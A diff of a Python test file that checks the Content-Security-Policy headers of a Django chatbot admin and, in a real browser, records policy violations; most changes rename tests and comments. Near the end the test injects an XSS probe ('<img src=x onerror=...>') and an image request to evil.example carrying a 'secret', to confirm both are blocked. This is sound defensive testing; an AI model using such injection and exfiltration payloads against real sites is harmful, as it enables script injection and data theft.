@@ -1,4 +1,4 @@
-"""What pages may load: the policy of each, and that no page of the admin breaks its own in a real browser."""
+"""The Content-Security-Policy of each page, and a check in a real browser that no admin page violates it."""
 
 import json
 from collections.abc import Iterator
@@ -23,7 +23,7 @@ def policy_of(response) -> dict[str, str]:
 
 
 @pytest.mark.parametrize("path", ["/admin/login/", "/api/docs/", "/api/schema/", "/nothing/"])
-def test_pages_run_no_script_but_ours_and_load_nothing_from_elsewhere(client, db, path):
+def test_pages_load_scripts_and_resources_only_from_this_server(client, db, path):
     policy = policy_of(client.get(path))
     assert policy["default-src"] == "'none'"
     assert policy["script-src"].split() == (["'self'"] if "docs" in path else ["'self'", EVAL])
@@ -34,7 +34,7 @@ def test_pages_run_no_script_but_ours_and_load_nothing_from_elsewhere(client, db
     assert "*" not in everywhere
 
 
-def test_the_pages_of_a_chatbot_keep_their_own(client, admin_client, db):
+def test_chat_page_and_preview_have_their_own_policies(client, admin_client, db):
     bot = Chatbot.objects.create(
         name="Shop", status="published", enable_chat_page=True, embed_allowed_domains=["shop.example"]
     )
@@ -46,19 +46,19 @@ def test_the_pages_of_a_chatbot_keep_their_own(client, admin_client, db):
     assert EVAL not in preview["script-src"]
 
 
-def test_answers_of_the_api_have_none(db):
+def test_api_responses_have_no_policy(db):
     for path in ("/logs", "/wp-json/aipkit/v1"):
         assert "content-security-policy" not in Api("").get(path).headers
 
 
-def test_old_browsers_frame_nothing_either(client, db):
+def test_x_frame_options_forbids_framing_in_old_browsers(client, db):
     assert client.get("/admin/login/")["X-Frame-Options"] == "DENY"
 
 
 # In a browser
 
 
-# A row of each model that has pages, with values as long as they come.
+# A row of each model with pages, with very long values.
 DATA = """
 from axes.models import AccessAttempt, AccessFailureLog
 from django.contrib.admin.models import CHANGE, LogEntry
@@ -111,7 +111,7 @@ tried = {"username": "nobody", "ip_address": "203.0.113.9", "user_agent": LONG *
 AccessFailureLog.objects.create(**tried)
 AccessAttempt.objects.create(**tried, failures_since_start=3, get_data="", post_data="")
 """
-# Every page without arguments, and the pages of the first row of each model.
+# The URLs of every page without arguments, and of the pages of each model's first row.
 PAGES = """
 import json
 from django.contrib import admin
@@ -128,10 +128,10 @@ for model, model_admin in admin.site._registry.items():
                     pass
 print(json.dumps(sorted(set(found))))
 """
-LISTEN = """
-window.broken = [];
+RECORD_VIOLATIONS = """
+window.violations = [];
 document.addEventListener("securitypolicyviolation", event => {
-    window.broken.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
+    window.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
 });
 """
 
@@ -147,9 +147,9 @@ def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
 
 
 SHOW, RENEW, TEST = (f"button:has-text('{text}')" for text in ("Show", "Create new secret", "Test"))
-LEAD_AWAY = (SHOW, RENEW, TEST)
-# What opens, or is fetched, only when it is used.
-USES = {
+NAVIGATE = (SHOW, RENEW, TEST)
+# Clicks that open or load further parts of these pages.
+CLICKS = {
     "/admin/": ["text=unfold_more", "summary:has-text('By day')"],
     "/admin/?days=30": [SHOW],
     "/admin/chatbots/chatbot/": ["#result_list >> text=more_horiz"],
@@ -164,7 +164,7 @@ USES = {
 
 
 def pages_of(server, page) -> list[str]:
-    """The addresses of all that can be opened; others lead elsewhere, or take nothing but POST."""
+    """Return the paths of the pages that answer GET with 200, not with a redirect or an error."""
     paths = json.loads(server.python(PAGES))
     assert len(paths) > 90
     return [path for path in paths if page.request.get(server.url + path).status == 200]
@@ -172,44 +172,44 @@ def pages_of(server, page) -> list[str]:
 
 @pytest.mark.slow
 @needs_browser
-def test_no_page_breaks_its_policy(server, browser):
+def test_no_page_violates_its_policy(server, browser):
     page = browser.new_page()
     page.set_default_timeout(10_000)
-    page.add_init_script(LISTEN)
-    said: list[str] = []
-    page.on("console", lambda message: said.append(message.text) if "Content Security" in message.text else None)
-    page.on("pageerror", lambda error: said.append(str(error)))
-    broken: dict[str, list[str]] = {}
+    page.add_init_script(RECORD_VIOLATIONS)
+    errors: list[str] = []
+    page.on("console", lambda message: errors.append(message.text) if "Content Security" in message.text else None)
+    page.on("pageerror", lambda error: errors.append(str(error)))
+    violations: dict[str, list[str]] = {}
 
-    def look(at: str) -> None:
-        page.wait_for_timeout(30)  # what scripts do later counts for the next page
-        if found := [*said, *(words for frame in page.frames for words in frame.evaluate("window.broken || []"))]:
-            broken[at] = found
-        said.clear()
+    def check(place: str) -> None:
+        page.wait_for_timeout(30)  # violations of slower scripts are reported for the next page
+        if found := [*errors, *(words for frame in page.frames for words in frame.evaluate("window.violations || []"))]:
+            violations[place] = found
+        errors.clear()
 
     page.goto(f"{server.url}/admin/login/")
-    look("/admin/login/")
+    check("/admin/login/")
     open_admin(page, server)
-    look("signing in")
+    check("signing in")
     paths = pages_of(server, page)
     for path in paths:
         page.goto(server.url + path)
-        look(path)
+        check(path)
     assert len(paths) > 80
-    for path, clicks in USES.items():
+    for path, clicks in CLICKS.items():
         page.goto(server.url + path)
         for click in clicks:
-            with page.expect_navigation() if click in LEAD_AWAY else nullcontext():
+            with page.expect_navigation() if click in NAVIGATE else nullcontext():
                 page.locator(click).first.click()
-            look(f"{path}, {click}")
+            check(f"{path}, {click}")
     page.goto(f"{server.url}/admin/")
     page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')")
     page.wait_for_timeout(100)
-    assert page.evaluate("window.hacked") is None  # a script in what somebody has typed would not run
+    assert page.evaluate("window.hacked") is None  # inline scripts do not run
     page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/?secret\">')")
-    page.wait_for_function("window.broken.some((words) => words.includes('evil.example'))")
+    page.wait_for_function("window.violations.some((words) => words.includes('evil.example'))")
     page.close()
-    assert broken == {}
+    assert violations == {}
 
 
 @pytest.mark.slow
@@ -220,7 +220,7 @@ def test_no_page_of_the_admin_is_wider_than_a_phone(server, browser):
     widths = {}
     for path in pages_of(server, page):
         page.goto(server.url + path)
-        if page.locator("#main").count():  # else it is a part of a page
+        if page.locator("#main").count():  # skip fragments of pages
             widths[path] = page.evaluate("document.documentElement.scrollWidth")
     page.close()
     assert len(widths) > 60
